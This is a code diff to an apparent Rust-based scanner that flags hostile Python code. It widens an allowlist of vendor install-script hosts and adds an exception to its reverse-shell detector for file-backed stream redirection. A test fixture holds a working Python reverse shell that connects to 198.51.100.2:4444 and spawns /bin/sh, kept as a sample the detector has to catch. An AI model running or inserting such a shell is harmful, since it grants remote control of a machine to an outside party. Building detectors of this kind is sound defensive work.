@@ -401,6 +401,8 @@ const VENDOR_INSTALLERS: &[&str] = &[
     "starship.rs/install.sh",
     "tailscale.com/install.sh",
     "get.k3s.io",
+    "rclone.org/install.sh",
+    "aka.ms/installazurecli",
     "nixos.org/nix/install",
     "install.determinate.systems/nix",
     "sdk.cloud.google.com",
@@ -973,6 +975,27 @@ fn check_reverse_shell(checker: &mut Checker, call: &ExprCall) {
             || call.arguments.args.get(1).is_some_and(|fd| {
                 matches!(checker.fold(fd), Some(crate::fold::Value::Int(0..=2)))
             })))
+    {
+        return;
+    }
+    // `os.dup2(stdout.fileno(), 1)` with `stdout = tempfile.SpooledTemporaryFile()`: a file
+    // the code made stands in for the stream (capturing output), no socket.
+    if let Expr::Call(fileno) = first
+        && let Expr::Attribute(method) = &*fileno.func
+        && method.attr.as_str() == "fileno"
+        && checker.qualname(&method.value).is_some_and(|q| {
+            [
+                "tempfile.",
+                "io.",
+                "open",
+                "sys.",
+                "os.open",
+                "os.fdopen",
+                "pathlib.",
+            ]
+            .iter()
+            .any(|known| q.starts_with(known))
+        })
     {
         return;
     }
@@ -2210,6 +2233,8 @@ mod tests {
     fn a_socketpair_wired_to_a_forked_childs_streams_is_no_reverse_shell() {
         let supervisor = "import os, sys\nfrom socket import socketpair\ndef start():\n    child_requests, read_requests = socketpair()\n    if os.fork() == 0:\n        os.dup2(child_requests.fileno(), 0)\n        os.execv(sys.executable, [sys.executable, '-c', 'import w; w.main()'])\n    read_requests.connect\n";
         assert!(max_severity("p/pkg/supervisor.py", supervisor, "WH120") < 0.5);
+        let capture = "import os, sys, tempfile\ndef quiet():\n    stdout = tempfile.SpooledTemporaryFile(mode='w+')\n    os.dup2(stdout.fileno(), 1)\n    os.execv('/bin/sh', ['sh'])\n    s.connect\n";
+        assert!(max_severity("p/pkg/utils.py", capture, "WH120") < 0.5);
         let shell = "import os, socket, pty\ns = socket.socket()\ns.connect(('198.51.100.2', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n";
         assert!(max_severity("p/pkg/__init__.py", shell, "WH120") >= 0.85);
     }
